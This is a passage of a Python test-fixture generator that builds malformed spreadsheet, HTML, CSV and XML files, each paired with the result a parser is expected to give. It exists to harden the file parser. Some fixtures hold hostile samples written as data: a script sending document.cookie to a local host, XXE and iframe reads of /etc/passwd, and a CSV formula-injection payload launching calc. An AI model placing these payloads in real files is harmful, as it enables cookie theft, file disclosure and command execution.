        one + row('<table:table-cell table:number-columns-repeated="16384"/>', many_rows))))  # fmt: skip
    _add("far_row.ods", "ok:ods", lambda: ods(ods_table(one + row(
        "<table:table-cell/>", 'table:number-rows-repeated="900000"') + one)))  # fmt: skip
    _add("repeat_is_no_number.ods", "xml_damaged", lambda: ods(
        ods_table(row(_ods_cell("1"), 'table:number-rows-repeated="很多"'))))  # fmt: skip
    _add("spaces_repeated.ods", "ok:ods", lambda: ods(ods_table(row(
        '<table:table-cell office:value-type="string"><text:p>a<text:s text:c="99999999999"/>b'
        "</text:p></table:table-cell>"))))  # fmt: skip
    _add("number_missing.ods", "xml_damaged", lambda: ods(ods_table(row(
        '<table:table-cell office:value-type="float"/>'))))  # fmt: skip
    _add("encrypted.ods", "encrypted_unsupported", lambda: ods(ods_table(one), {
        "META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}))  # fmt: skip
    _add("macro.ods", "ok:ods", lambda: ods(
        ods_table(one), {"Basic/Standard/Module1.xml": "<m/>"}), "macro")  # fmt: skip
    _add("error_cell.ods", "ok:ods", lambda: ods(ods_table(row(
        '<table:table-cell table:formula="of:=1/0" office:value-type="string" '
        'calcext:value-type="error"><text:p>#DIV/0!</text:p></table:table-cell>'))),
        "error_cells")  # fmt: skip
    _add("formula_never_computed.ods", "ok:ods", lambda: ods(ods_table(row(
        '<table:table-cell table:formula="of:=A2"/>'))), "uncached_formulas")  # fmt: skip
    _add("cells_outside_rows.ods", "ok:ods", lambda: ods(ods_table(_ods_cell("1"))))
    _add("rows_outside_tables.ods", "no_sheets", lambda: ods(one))
    _add("no_sheet.ods", "no_sheets", lambda: ods(""))
    _add("no_content.ods", "zip_damaged", lambda: zip_bytes(
        {"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}))  # fmt: skip
    _add("content_cut.ods", "xml_damaged", lambda: ods(
        "", {"content.xml": ods_content(ods_table(one))[:-60]}))  # fmt: skip


# --- HTML ------------------------------------------------------------------------------------


def _web_pages() -> None:
    def page(table: str, head: str = '<meta charset="gb2312">') -> bytes:
        return f"<html><head>{head}</head><body>{table}</body></html>".encode("gb18030")

    simple = "<table><tr><td>园区</td><td>1</td></tr></table>"
    _add("page.xls", "ok:html", lambda: page(simple), "content_differs")
    _add("page_with_script.xls", "ok:html", lambda: page(
        "<script>fetch('http://127.0.0.1/'+document.cookie)</script>" + simple), "html_script")  # fmt: skip
    _add("page_with_frames.html", "ok:html", lambda: page(
        '<iframe src="file:///etc/passwd"></iframe><img src="http://127.0.0.1/x.png">' + simple))  # fmt: skip
    _add("page_with_entities.html", "ok:html", lambda: page(
        '<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + simple))  # fmt: skip
    _add("page_without_table.xls", "no_table", lambda: page("<p>系统维护，请稍后再试</p>"))
    _add(
        "page_with_empty_table.xls", "no_table", lambda: page("<table><tr><td> </td></tr></table>")
    )
    _add("page_span_of_a_billion.html", "ok:html", lambda: page(
        '<table><tr><td colspan="999999999" rowspan="999999999">甲<td>乙</td></tr></table>'))  # fmt: skip
    _add("page_spans_pile_up.html", "box_too_large", lambda: page("<table>" + (
        "<tr>" + '<td colspan="1000">甲</td>' * 10 + "</tr>") * 600 + "</table>"))  # fmt: skip
    _add("page_nested_5000_deep.html", "ok:html", lambda: page(simple + "<div>" * 5000))
    _add("page_tables_nested_300_deep.html", "ok:html", lambda: page(
        "<table><tr><td>甲" * 300))  # fmt: skip
    _add("page_never_closed.html", "ok:html", lambda: page("<table><tr><td>甲<td>乙<tr><td>丙"))
    _add("page_half_a_million_cells.html", "too_many_cells", lambda: page(
        "<table>" + ("<tr>" + "<td>1" * 100) * 5_010 + "</table>"))  # fmt: skip
    _add("page_in_big5.html", "encoding_declared", lambda: (
        '<html><meta charset="big5"><table><tr><td>園區產值</td></tr></table>').encode("big5"))  # fmt: skip
    _add("page_with_nul.html", "binary_text", lambda: page(simple) + b"\0")
    _add("page_three_hundred_tables.html", "too_many_sheets", lambda: page(simple * 300))


# --- text --------------------------------------------------------------------------------------


def _texts() -> None:
    head = "园区名称,工业总产值(万元)\r\n"
    park = "秦岭高新技术产业开发区,41954.56\r\n"
    _add("text_with_nul.csv", "binary_text", lambda: (head + park).encode() + b"a\0b\r\n")
    _add("text_utf16_without_mark.csv", "binary_text", lambda: (head + park).encode("utf-16-le"))
    _add("text_utf16_cut.csv", "encoding_mixed", lambda: (head + park).encode("utf-16")[:-1])
    _add("text_utf8_cut_in_character.csv", "encoding_mixed", lambda: (
        head + park + "渭北").encode()[:-1])  # fmt: skip
    _add("text_utf8_then_gbk.csv", "encoding_mixed", lambda: (
        head.encode() + park.encode() + park.encode("gbk")))  # fmt: skip
    _add("text_marked_utf8_then_gbk.csv", "encoding_mixed", lambda: (
        head.encode("utf-8-sig") + park.encode("gbk")))  # fmt: skip
    _add("text_latin1.csv", "encoding_unknown", lambda: b"parc,valeur\r\nsoci\xe9t\xe9,1\xff\r\n")
    _add("text_random_bytes.csv", "encoding_unknown", lambda: _noise_bytes(2, 4000, avoid=b"\0"))
    _add("text_mark_only.csv", "empty_file", lambda: b"\xef\xbb\xbf")
    _add("text_only_commas.csv", "empty_file", lambda: b",,,,\r\n,,,,\r\n")
    _add("text_formula_injection.csv", "ok:csv", lambda: (
        "名称,值\r\n=cmd|' /c calc'!A1,1\r\n@SUM(1+1),2\r\n+1+1,3\r\n-2+3,4\r\n").encode())  # fmt: skip
    _add("text_quote_never_closed.csv", "ok:csv", lambda: (
        '名称,值\r\n"甲园,1\r\n乙园,2\r\n').encode(), "unbalanced_quotes")  # fmt: skip
    _add("text_field_of_two_megabytes.csv", "field_too_long", lambda: (
        b'a,b\r\n"' + b"x\n" * 1_000_000 + b'",1\r\n'))  # fmt: skip
    _add("text_half_a_million_fields.csv", "too_many_cells", lambda: (b"1," * 99 + b"1\n") * 5_010)
    _add("text_one_row_of_a_million.csv", "too_many_cells", lambda: b"1," * 1_000_000)
    _add("text_ragged.csv", "ok:csv", lambda: b"a\n1,2,3\n\n4,5\n,,,,6\n")
    _add("text_carriage_returns_only.csv", "ok:csv", lambda: b"a,b\r1,2\r")
    _add("text_control_characters.csv", "ok:csv", lambda: b"a,\x01\x02\x1b[31m\r\n1,2\r\n")
    _add("text_right_to_left.csv", "ok:csv", lambda: "名称,值\r\n甲\u202e园,1\r\n".encode())
    _add("text_utf32.csv", "ok:csv", lambda: b"\xff\xfe\0\0" + (head + park).encode("utf-32-le"))
    _add("text_long_line.txt", "ok:txt", lambda: b"a" * 900_000)
    _add("text_json.txt", "ok:txt", lambda: b'{"a": 1}\n')
    _add(
        "text_many_quotes.csv",
        "ok:csv",
        lambda: b"a,b\r\n" + b'""' * 50_000 + b",1\r\n",
    )


def _xml_2003() -> None:
    def row(data: str, attributes: str = "", kind: str = "Number") -> str:
        return f'<Row><Cell {attributes}><Data ss:Type="{kind}">{data}</Data></Cell></Row>'

    _add("table_2003.xls", "ok:xml2003", lambda: xml2003(row("1")), "content_differs")
    _add("table_2003_far.xml", "box_too_large", lambda: xml2003(
        row("1") + '<Row ss:Index="1048576"><Cell ss:Index="16384"><Data ss:Type="Number">1</Data>'
        "</Cell></Row>"))  # fmt: skip
    _add("table_2003_beyond.xml", "damaged", lambda: xml2003(row("1", 'ss:Index="99999"')))
    _add("table_2003_index_garbage.xml", "xml_damaged", lambda: xml2003(row("1", 'ss:Index="x"')))
    _add("table_2003_bad_number.xml", "xml_damaged", lambda: xml2003(row("四万")))
    _add(
        "table_2003_bad_date.xml", "xml_damaged", lambda: xml2003(row("2020-13-01", "", "DateTime"))
    )
    _add("table_2003_xxe.xml", "xml_dtd", lambda: xml2003(row("&e;", "", "String"), head=XXE))
    _add(
        "table_2003_error.xml",
        "ok:xml2003",
        lambda: xml2003(row("#N/A", "", "Error")),
        "error_cells",
    )


def _encrypted() -> None:
    _add("password_agile.xlsx", "encrypted", lambda: encrypted_xlsx("渭北2020"))
    _add("protected_with_default_password.xlsx", "ok:xlsx", lambda: encrypted_xlsx(
        "VelvetSweatshop"), "write_protected")  # fmt: skip
    _add("password_header_noise.xlsx", "encrypted_unsupported", lambda: ole(
        {"EncryptionInfo": _noise_bytes(3, 4096), "EncryptedPackage": _noise_bytes(4, 4096)}))  # fmt: skip
    _add("password_spins_forever.xlsx", "encrypted", lambda: encrypted_xlsx("x").replace(
        b'spinCount="100000"', b'spinCount="200000"'))  # fmt: skip


def _noise() -> None:
    """Random damage to good files; the same each time. Any rejection will do."""
    for i, good in enumerate((xlsx(), xls(), ods(ods_table("<table:table-row/>")))):
        suffix = ("xlsx", "xls", "ods")[i]
        for seed in range(6):
            _add(f"noise_{seed}.{suffix}", "any", lambda good=good, seed=seed: _damage(good, seed))


def _damage(data: bytes, seed: int) -> bytes:
    chance = random.Random(seed)
    damaged = bytearray(data)
    for _ in range(2**seed):
        damaged[chance.randrange(len(damaged))] = chance.randrange(256)
    return bytes(damaged)


def _noise_bytes(seed: int, size: int, avoid: bytes = b"") -> bytes:
    chance = random.Random(seed)
    allowed = [byte for byte in range(256) if byte not in avoid]
    return bytes(chance.choice(allowed) for _ in range(size))
